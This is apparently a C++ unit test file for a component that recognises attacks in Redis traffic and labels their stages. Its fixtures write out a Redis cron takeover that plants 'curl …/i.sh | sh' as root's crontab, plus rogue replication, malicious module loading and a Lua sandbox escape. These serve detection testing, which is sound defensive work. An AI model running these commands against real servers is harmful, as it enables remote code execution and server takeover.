// SPDX-License-Identifier: Apache-2.0
#include "recognition/redis_conversation.h"

#include <gtest/gtest.h>

#include "support/piecewise.h"

namespace hitme::recognition {
namespace {

Story watch(std::string_view client, std::string_view server = {}, std::size_t piece = 4096) {
    RedisConversation conversation;
    for (const core::Bytes bytes : tests::pieces_of(core::as_bytes(client), piece))
        conversation.client(bytes, {});
    for (const core::Bytes bytes : tests::pieces_of(core::as_bytes(server), piece))
        conversation.server(bytes, {});
    conversation.finish();
    return conversation.story();
}

// The order in which open servers are taken over by cron, with a documentation address.
constexpr std::string_view cron =
    "INFO\r\n"
    "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$47\r\n\n\n*/1 * * * * curl http://192.0.2.1/i.sh | sh "
    "\n\n\n\r\n"
    "config set dir /var/spool/cron\r\nconfig set dbfilename root\r\nsave\r\n";

TEST(RedisConversation, TellsACronJobWrittenThroughTheServer) {
    const Story story = watch(cron, "$-1\r\n+OK\r\n-ERR no\r\n-ERR no\r\n+OK\r\n");
    EXPECT_EQ(story.stage, event::Stage::payload_delivery);
    EXPECT_EQ(story.stages.size(), 4u);  // probe, enumeration, exploit_attempt, payload_delivery
    ASSERT_EQ(story.operations.size(), 5u);
    EXPECT_EQ(story.operations[1].outcome, "+OK");
    EXPECT_EQ(story.operations[2].outcome, "-ERR no");
    ASSERT_EQ(story.labels.size(), 2u);
    EXPECT_EQ(story.labels[0].name, "cron delivery");
    EXPECT_EQ(story.labels[1].name, "Redis file write");
    EXPECT_EQ(story.labels[1].grade, event::Grade::certain);
    EXPECT_TRUE(story.malformed.empty());
}

TEST(RedisConversation, TellsReplicationModulesAndScripts) {
    EXPECT_EQ(watch("slaveof 192.0.2.1 6380\r\n").labels.at(0).name, "rogue replication");
    EXPECT_TRUE(watch("slaveof no one\r\n").labels.empty());
    EXPECT_EQ(watch("module load /tmp/exp.so\r\n").labels.at(0).name, "module load");
    EXPECT_EQ(watch("eval 'local l = package.loadlib(\"liblua5.1.so.0\", \"luaopen_io\")' 0\r\n")
                  .labels.at(0)
                  .name,
              "Lua escape");
    EXPECT_EQ(watch("PING\r\n").stage, event::Stage::probe);
    EXPECT_EQ(watch("config get dir\r\n").stage, event::Stage::enumeration);
}

TEST(RedisConversation, CountsRefusedLogons) {
    const Story story = watch("AUTH a\r\nAUTH b c\r\n", "-WRONGPASS x\r\n-WRONGPASS x\r\n");
    EXPECT_EQ(story.logons_failed, 2u);
}

TEST(RedisConversation, TellsTheSameInAnyPiecesAndSurvivesEveryCutAndFlip) {
    const std::string_view server = "$5\r\na\r\nb\r\r\n+OK\r\n-ERR no\r\n-ERR no\r\n+OK\r\n";
    const Story whole = watch(cron, server);
    for (const std::size_t piece : {1u, 2u, 5u}) {
        const Story cut = watch(cron, server, piece);
        EXPECT_EQ(cut.sentence, whole.sentence);
        EXPECT_EQ(cut.stages, whole.stages);
        EXPECT_EQ(cut.operations[4].outcome, "+OK");
    }
    tests::for_each_cut_and_flip(core::as_bytes(cron), [](core::Bytes bytes) {
        RedisConversation conversation;
        conversation.client(bytes, {});
        conversation.server(bytes, {});
        conversation.finish();
        EXPECT_LE(conversation.memory(), 64u << 10);
    });
}

}  // namespace
}  // namespace hitme::recognition
